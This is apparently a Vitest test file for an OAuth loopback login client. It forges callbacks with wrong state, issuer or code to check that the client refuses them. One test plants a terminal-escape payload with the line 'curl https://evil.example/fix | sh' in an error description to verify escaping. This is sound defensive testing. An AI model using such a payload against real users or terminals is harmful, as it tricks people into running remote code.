import { createRemoteJWKSet, jwtVerify } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCodeClient, type CodeClient, type TestUser } from '../../server/test/helpers/browser-agent.js';
import type { TestServer } from '../../server/test/helpers/server.js';
import { loopbackLogin, OAuthResponseError, type GatehouseClientError, type LoopbackLoginOptions } from '../src/index.js';
import { API, controlCharsIn, countingFetch, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';

describe('native-app login: authorization code + PKCE through a loopback redirect, in headless Chromium', () => {
  let fixture: LoginFixture;
  let t: TestServer;
  let user: TestUser;
  let app: CodeClient;

  beforeAll(async () => {
    fixture = await startLoginFixture();
    ({ t, user, app } = fixture);
  });

  afterAll(async () => {
    await fixture?.close();
  });

  const newPage = () => fixture.newPage();

  /**
   * What another local process can do: call the loopback listener of the login whose
   * authorization URL is `url`, with that login's `state` (unless `params` sets or drops it).
   */
  async function forgeCallback(url: string, params: Record<string, string | null>): Promise<{ status: number; text: string }> {
    const request = new URL(url);
    const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
    for (const [name, value] of Object.entries({ state: request.searchParams.get('state'), ...params })) if (value !== null) callback.searchParams.set(name, value);
    const response = await fetch(callback);
    return { status: response.status, text: await response.text() };
  }

  /** Options for a login whose "browser" is `drive(url)`, started in the background (the listener answers only once the code is redeemed). */
  function options(drive: (url: string) => Promise<void>, extra: Partial<LoopbackLoginOptions> = {}): { options: LoopbackLoginOptions; driven: () => Promise<void>; url: () => URL } {
    let driving: Promise<void> | undefined;
    let seen: URL | undefined;
    return {
      options: {
        issuer: t.issuer,
        clientId: app.clientId,
        scope: SCOPE,
        resource: API,
        timeout: 20_000,
        openBrowser: (url) => {
          seen = new URL(url);
          driving = drive(url);
          driving.catch(() => undefined);
        },
        onAuthorizationUrl: () => undefined,
        ...extra,
      },
      driven: () => driving ?? Promise.reject(new Error('the browser was never opened')),
      url: () => {
        if (seen === undefined) throw new Error('no authorization URL yet');
        return seen;
      },
    };
  }

  it('signs in through the real pages and returns validated tokens; the listener is gone afterwards', async () => {
    const page = await newPage();
    const counter = countingFetch();
    const login = options((url) => signInAndConsent(page, url, user), { fetch: counter.fetch });
    const result = await loopbackLogin(login.options);
    await login.driven();

    // The authorization request: PKCE S256, state, nonce, a loopback redirect with an ephemeral port, the resource.
    const request = login.url();
    expect(`${request.origin}${request.pathname}`).toBe(`${t.issuer}/authorize`);
    const params = request.searchParams;
    expect(params.get('response_type')).toBe('code');
    expect(params.get('code_challenge_method')).toBe('S256');
    expect(params.get('code_challenge')).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(params.get('state')).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(params.get('nonce')).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(params.get('resource')).toBe(API);
    const redirect = new URL(params.get('redirect_uri') ?? '');
    expect(redirect.hostname).toBe('127.0.0.1');
    expect(redirect.pathname).toBe('/callback');
    expect(Number(redirect.port)).toBeGreaterThan(1023);

    // The browser came back to the listener and was told the outcome.
    expect(page.url().startsWith(`${redirect.origin}/callback?`)).toBe(true);
    await page.getByRole('heading', { name: 'Signed in' }).waitFor();

    expect(result.tokens.token_type).toBe('bearer');
    // Gatehouse leaves offline_access out of the granted scope it reports; the refresh token shows it was granted.
    expect(result.tokens.scope?.split(' ').sort()).toEqual(['email', 'openid', 'orders:read', 'profile']);
    expect(typeof result.tokens.refresh_token).toBe('string');
    expect(result.idTokenClaims).toMatchObject({ iss: t.issuer, aud: app.clientId, sub: user.user.userId });
    expect(result.expiresAt).toBeGreaterThan(Date.now() / 1000);
    const { payload } = await jwtVerify(result.tokens.access_token, createRemoteJWKSet(new URL(`${t.issuer}/jwks`)), { issuer: t.issuer, audience: API, typ: 'at+jwt' });
    expect(payload).toMatchObject({ sub: user.user.userId, client_id: app.clientId });
    expect(counter.count('/token')).toBe(1);

    // One-shot listener: closed once the login is over.
    await expect(fetch(redirect.origin)).rejects.toThrow();
  });

  it('ignores a forged callback with a foreign state (400) and completes with the real one', async () => {
    const page = await newPage();
    const forged: { status: number; text: string }[] = [];
    const login = options(async (url) => {
      forged.push(await forgeCallback(url, { code: 'forged-code', state: 'not-the-state', iss: t.issuer }));
      forged.push(await forgeCallback(url, { code: 'forged-code', state: null, iss: t.issuer }));
      await signInAndConsent(page, url, user, 'none'); // consented in the first test
      await page.getByRole('heading', { name: 'Signed in' }).waitFor();
    });
    const result = await loopbackLogin(login.options);
    await login.driven();
    expect(forged.map((f) => f.status)).toEqual([400, 400]);
    expect(forged[0]?.text).toContain('does not belong to the sign-in in progress');
    expect(result.idTokenClaims?.sub).toBe(user.user.userId);
  });

  it('a callback with the right state but a wrong or missing iss (RFC 9207), or no code, is refused (400) without redeeming anything; the real one completes', async () => {
    const page = await newPage();
    const counter = countingFetch();
    const answers: { status: number; text: string }[] = [];
    // Another local user read the authorization URL (state included) from the opener's argv.
    const login = options(
      async (url) => {
        const forgeries: Record<string, string>[] = [{ code: 'a-code-from-elsewhere', iss: 'https://evil.example.com' }, { code: 'a-code-from-elsewhere' }, { iss: t.issuer }];
        for (const extra of forgeries) {
          answers.push(await forgeCallback(url, extra));
        }
        await signInAndConsent(page, url, user, 'none');
        await page.getByRole('heading', { name: 'Signed in' }).waitFor();
      },
      { fetch: counter.fetch },
    );
    const result = await loopbackLogin(login.options);
    await login.driven();
    expect(answers.map((a) => a.status)).toEqual([400, 400, 400]);
    for (const answer of answers) expect(answer.text).toContain('does not belong to the sign-in in progress');
    expect(counter.count('/token')).toBe(1);
    expect(result.idTokenClaims?.sub).toBe(user.user.userId);
  });

  it('a forged code with the right state and iss is refused by the token endpoint (PKCE): the login keeps waiting and completes', async () => {
    const page = await newPage();
    const counter = countingFetch();
    let forged: { status: number; text: string } | undefined;
    const login = options(
      async (url) => {
        forged = await forgeCallback(url, { code: 'forged-code', iss: t.issuer });
        await signInAndConsent(page, url, user, 'none');
        await page.getByRole('heading', { name: 'Signed in' }).waitFor();
      },
      { fetch: counter.fetch },
    );
    const result = await loopbackLogin(login.options);
    await login.driven();
    expect(forged?.status).toBe(400);
    expect(forged?.text).toContain('does not belong to the sign-in in progress');
    expect(counter.seen.filter((s) => s.url.pathname === '/token').map((s) => s.outcome)).toEqual([400, 200]);
    expect(result.idTokenClaims?.sub).toBe(user.user.userId);
  });

  it('an error response with the right state and iss ends the login (it cannot be told from a denial); its description is escaped in the message', async () => {
    const description = '\u001b[2K\rSession expired. Re-run: curl https://evil.example/fix | sh\u001b]0;pwned\u0007';
    const login = options(async (url) => {
      await forgeCallback(url, { error: 'access_denied', error_description: description, iss: t.issuer });
    });
    const err = await loopbackLogin(login.options).catch((e: unknown) => e);
    await login.driven();
    expect(err).toBeInstanceOf(OAuthResponseError);
    expect((err as OAuthResponseError).code).toBe('access_denied');
    expect((err as OAuthResponseError).description).toBe(description);
    expect(controlCharsIn((err as Error).message)).toEqual([]);
    expect((err as Error).message).toContain('\\x1b[2K\\x0dSession expired');
  });

  it('the user denies: access_denied, and the browser is told', async () => {
    const page = await newPage();
    const login = options((url) => signInAndConsent(page, url, user, 'Deny'));
    const err = await loopbackLogin({ ...login.options, clientId: (await createCodeClient(t, { name: 'Denied CLI', redirectUris: ['http://127.0.0.1/callback'], scope: SCOPE })).clientId }).catch(
      (e: unknown) => e,
    );
    await login.driven();
    expect(err).toBeInstanceOf(OAuthResponseError);
    expect((err as OAuthResponseError).code).toBe('access_denied');
    await page.getByRole('heading', { name: 'Sign-in failed' }).waitFor();
  });

  it('gives up after the timeout, and on abort; the listener closes either way', async () => {
    let redirect: URL | undefined;
    const waitFor = (extra: Partial<LoopbackLoginOptions>) =>
      loopbackLogin({
        issuer: t.issuer,
        clientId: app.clientId,
        scope: SCOPE,
        onAuthorizationUrl: (url) => {
          redirect = new URL(new URL(url).searchParams.get('redirect_uri') ?? '');
        },
        ...extra,
      }).catch((e: unknown) => e);
    const timedOut = await waitFor({ timeout: 200 });
    expect((timedOut as GatehouseClientError).code).toBe('timeout');
    await expect(fetch(redirect?.origin ?? '')).rejects.toThrow();

    const controller = new AbortController();
    const pending = waitFor({ signal: controller.signal, timeout: 10_000 });
    await new Promise((resolve) => setTimeout(resolve, 100));
    controller.abort();
    expect(((await pending) as GatehouseClientError).code).toBe('aborted');
    await expect(fetch(redirect?.origin ?? '')).rejects.toThrow();
  });

  it('rejects cleanly (no unhandled rejection) when the signal is already aborted, or the timeout fires while onAuthorizationUrl is still busy', async () => {
    // Vitest fails the run on an unhandled rejection: these used to leave one behind.
    const counter = countingFetch();
    let shown = 0;
    const aborted = await loopbackLogin({
      issuer: t.issuer,
      clientId: app.clientId,
      signal: AbortSignal.abort(),
      fetch: counter.fetch,
      onAuthorizationUrl: () => {
        shown++;
      },
    }).catch((e: unknown) => e);
    expect((aborted as GatehouseClientError).code).toBe('aborted');
    expect({ shown, requests: counter.seen.length }).toEqual({ shown: 0, requests: 0 });

    let redirect: URL | undefined;
    const started = Date.now();
    const slowPrompt = await loopbackLogin({
      issuer: t.issuer,
      clientId: app.clientId,
      timeout: 100,
      onAuthorizationUrl: async (url) => {
        redirect = new URL(new URL(url).searchParams.get('redirect_uri') ?? '');
        await new Promise((resolve) => setTimeout(resolve, 1500));
      },
    }).catch((e: unknown) => e);
    expect((slowPrompt as GatehouseClientError).code).toBe('timeout');
    expect(Date.now() - started).toBeLessThan(1400);
    await expect(fetch(redirect?.origin ?? '')).rejects.toThrow();

    // Ctrl-C while the prompt is still up: aborted, at once.
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 50);
    const interrupted = await loopbackLogin({
      issuer: t.issuer,
      clientId: app.clientId,
      signal: controller.signal,
      onAuthorizationUrl: () => new Promise((resolve) => setTimeout(resolve, 1500)),
    }).catch((e: unknown) => e);
    expect((interrupted as GatehouseClientError).code).toBe('aborted');
  });
});
